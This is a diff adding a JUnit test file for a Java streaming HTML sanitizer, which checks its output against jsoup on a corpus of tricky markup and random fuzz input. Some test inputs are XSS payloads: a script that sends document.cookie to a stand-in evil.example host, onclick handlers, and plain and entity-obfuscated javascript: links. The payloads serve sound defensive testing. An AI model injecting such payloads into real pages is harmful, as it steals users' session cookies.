@@ -0,0 +1,211 @@
+package com.flash.sanitization.sanitizer.implementation;
+
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Document;
+import org.jsoup.parser.Parser;
+import org.jsoup.safety.Safelist;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import java.io.IOException;
+import java.io.StringWriter;
+import java.io.Writer;
+import java.util.List;
+import java.util.Random;
+import java.util.stream.Stream;
+
+import static org.assertj.core.api.AssertionsForClassTypes.assertThat;
+
+class StreamingHtmlSanitizerTest {
+
+    private final StreamingHtmlSanitizer streamingHtmlSanitizer = new StreamingHtmlSanitizer();
+
+    /**
+     * The corpus both sanitizers are compared on, from plain documents to the parser rules that change the structure.
+     */
+    static Stream<Arguments> corpus() {
+        return Stream.of(
+            Arguments.of("Text", "stuff"),
+            Arguments.of("Document", "<!DOCTYPE html><html><head><title>t</title></head><body>b</body></html>after"),
+            Arguments.of(
+                "Article",
+                """
+                <div class="post"><h2>Release notes</h2>
+                <p>The <b>new</b> version is <a href="https://example.com/notes" title="notes">available</a>,
+                see the <i>changelog</i> for details.<br><img src="https://example.com/logo.png" alt="logo"></p>
+                <ul><li>Faster &amp; smaller</li><li>Fewer <code>allocations</code></li></ul></div>
+                """),
+            Arguments.of(
+                "Scripts",
+                """
+                <p onclick="steal()">click</p><script>document.location='https://evil.example/?'+document.cookie</script>
+                <a href="javascript:alert(1)">link</a><iframe src="https://evil.example">frame</iframe>
+                <style>p { color: red }</style><noscript>no script</noscript>
+                """),
+            Arguments.of(
+                "Urls",
+                "<a href='http://x' REL=x HREF='y' title=t>l</a><a href=\"jav&#x61;script:alert(1)\">j</a>"
+                    + "<a href='HTTPS://Ex.com/a b'>s</a><a href='/relative'>r</a><a href=mailto:me@example.com>m</a>"
+                    + "<q cite=http://a>q</q><blockquote cite='ftp://a'>b</blockquote>"),
+            Arguments.of("Entities", "a & b &copy &notit; &#x41; &lt;script&gt; &amp;amp; &nbsp;"),
+            Arguments.of("Entities In Attributes", "<a href='http://x/?a=1&amp;b=2&copy=3'>x</a>"),
+            Arguments.of("Rcdata", "<title>t&amp;</title><textarea>\nx&lt;</textarea><xmp>&lt;x</xmp>"),
+            Arguments.of("Raw Text", "<noembed>n</noembed><noframes>f</noframes><script>if (a</b) {}</script>x"),
+            Arguments.of("Comments", "a<!-- c -->b<!---->c<!--->d<!-- a -- b --!>e<!x>f<?php x ?>g</ x>h"),
+            Arguments.of("Unclosed", "<p>a<b>bold<i>both"),
+            Arguments.of("Paragraph Closed By Block", "<p>a<div>b</div>c</p>"),
+            Arguments.of("Paragraph Closed By Table", "<p>a<table><tr><td>x</table>"),
+            Arguments.of("Stray Paragraph End", "<p>a</p></p>"),
+            Arguments.of("List Items", "<ul><li>a<li>b<ol><li>c<li>d</ol></ul><dl><dt>t<dd>d<dt>u</dl>"),
+            Arguments.of("Misnested Formatting", "<b><i>x</b>y</i>"),
+            Arguments.of("Formatting Reopened", "<p><b>x</p><p>y"),
+            Arguments.of("Too Many Reopened", "<p><b><b><b><b>x</p>y"),
+            Arguments.of("Link In Link", "<a>1<a>2"),
+            Arguments.of("Break End Tag", "</br>x"),
+            Arguments.of("Self Closing", "<x/>y<br/>a<b/>c"),
+            Arguments.of("Preformatted", "<pre>\nx</pre><pre>\n\ny</pre>"),
+            Arguments.of("Headings", "<h1>a<h2>b</h1>c"),
+            Arguments.of("Ignored End Tag", "<div>a</span>b</div>"),
+            Arguments.of("Table", "<table><tr><td><b>x</td><td>y</b></td></tr></table>z"),
+            Arguments.of("Select", "<select><option>o<option>p</select>"),
+            Arguments.of("Plaintext", "a<plaintext><b>x</b>"),
+            Arguments.of("Unterminated Tag", "a<b"),
+            Arguments.of("Unterminated Comment", "a<!-- b"),
+            Arguments.of("Unterminated Attribute", "a<a href='x"),
+            Arguments.of("Less Than", "a < b <3 </> c <"),
+            Arguments.of("Carriage Returns", "a\r\nb\rc"));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("corpus")
+    void matchesJsoup(String name, String html) {
+        assertThat(normalize(streamingHtmlSanitizer.sanitize(html))).isEqualTo(normalize(clean(html)));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "stuff",
+        "<html><body>stuff</body></html>",
+        "<div>stuff</div>",
+    })
+    void simple(String input) {
+        assertThat(streamingHtmlSanitizer.sanitize(input)).isEqualTo("stuff");
+    }
+
+    /**
+     * Wherever the output differs from jsoup it has to be just as safe: there's nothing left for jsoup to remove.
+     */
+    @Test
+    void randomised_isClean() {
+        Random random = new Random(42);
+
+        for (int round = 0; round < 2_000; round++) {
+            String html = randomHtml(random);
+            String sanitized = streamingHtmlSanitizer.sanitize(html);
+
+            assertThat(normalize(clean(sanitized)))
+                .as("html '%s'", html)
+                .isEqualTo(normalize(sanitized));
+        }
+    }
+
+    /**
+     * Write the html in random parts, the result should be the same as sanitizing it in one go.
+     */
+    @Test
+    void randomised_inParts() throws IOException {
+        Random random = new Random(7);
+
+        for (int round = 0; round < 500; round++) {
+            String html = randomHtml(random);
+
+            StringWriter result = new StringWriter();
+            try (Writer writer = streamingHtmlSanitizer.sanitizing(result)) {
+                int read = 0;
+                while (read < html.length()) {
+                    int end = Math.min(html.length(), read + 1 + random.nextInt(8));
+                    writer.write(html, read, end - read);
+                    read = end;
+                }
+            }
+
+            assertThat(result.toString()).as("html '%s'", html).isEqualTo(streamingHtmlSanitizer.sanitize(html));
+        }
+    }
+
+    /**
+     * Numeric references aren't decoded by jsoup, they have to come out the same anyway.
+     */
+    @Test
+    void numericReferences_matchJsoup() {
+        for (int codePoint = 0; codePoint <= Character.MAX_CODE_POINT + 1; codePoint += codePoint < 0x3000 ? 1 : 997) {
+            for (String reference : List.of("&#%d", "&#%d;", "&#x%x", "&#X%X;")) {
+                String raw = "a" + reference.formatted(codePoint) + "1;b";
+                assertThat(StreamingHtmlSanitizer.unescape(raw, false)).isEqualTo(Parser.unescapeEntities(raw, false));
+                assertThat(StreamingHtmlSanitizer.unescape(raw, true)).isEqualTo(Parser.unescapeEntities(raw, true));
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"&", "&#", "&#x;", "& #65", "&&#65;", "&#65&#66", "&#99999999999;", "&#xg", "&#65;&amp;"})
+    void references_matchJsoup(String raw) {
+        assertThat(StreamingHtmlSanitizer.unescape(raw, false)).isEqualTo(Parser.unescapeEntities(raw, false));
+    }
+
+    @Test
+    void longText_inParts() throws IOException {
+        String html = "<p>" + "a &amp; b &copy; ".repeat(10_000) + "</p>";
+
+        StringWriter result = new StringWriter();
+        try (Writer writer = streamingHtmlSanitizer.sanitizing(result)) {
+            writer.write(html);
+        }
+
+        assertThat(result.toString()).isEqualTo(streamingHtmlSanitizer.sanitize(html));
+        assertThat(normalize(result.toString())).isEqualTo(normalize(clean(html)));
+    }
+
+    @Test
+    void deeplyNested() {
+        String html = "<div><b>".repeat(5_000) + "x" + "</b></div>".repeat(5_000);
+        assertThat(normalize(streamingHtmlSanitizer.sanitize(html))).contains("x");
+    }
+
+    @Test
+    void otherSafelist() {
+        StreamingHtmlSanitizer sanitizer = new StreamingHtmlSanitizer(Safelist.none());
+        assertThat(sanitizer.sanitize("<p>a <b>b</b></p>")).isEqualTo("a b");
+    }
+
+    private static String clean(String html) {
+        return Jsoup.clean(html, "", Safelist.basic(), new Document.OutputSettings().prettyPrint(false));
+    }
+
+    /**
+     * Parse and serialize again, so both are compared by the document they describe rather than how it's written.
+     */
+    private static String normalize(String html) {
+        Document document = Jsoup.parseBodyFragment(html);
+        document.outputSettings().prettyPrint(false);
+        return document.body().html().trim();
+    }
+
+    private static final List<String> PARTS = List.of(
+        "<p>", "</p>", "<b>", "</b>", "<i>", "</i>", "<a href='http://x'>", "<a href=javascript:x>", "</a>", "<div>",
+        "</div>", "<ul>", "<li>", "</ul>", "<table>", "<td>", "</table>", "<script>", "</script>", "<style>",
+        "</style>", "<!--", "-->", "<title>", "</title>", "<span onclick=x>", "</span>", "<br>", "<img src=x>", "&amp;",
+        "&lt;", "&", "<", ">", "\"", "'", "=", "/", "!", " ", "\n", "text", "<pre>", "<q cite='http://q'>", "<blockquote>",
+        "<h1>", "</h1>", "<select>", "<option>", "<textarea>", "</textarea>", "<plaintext>");
+
+    private static String randomHtml(Random random) {
+        StringBuilder html = new StringBuilder();
+        for (int i = random.nextInt(30); i >= 0; i--) {
+            html.append(PARTS.get(random.nextInt(PARTS.size())));
+        }
+        return html.toString();
+    }
+}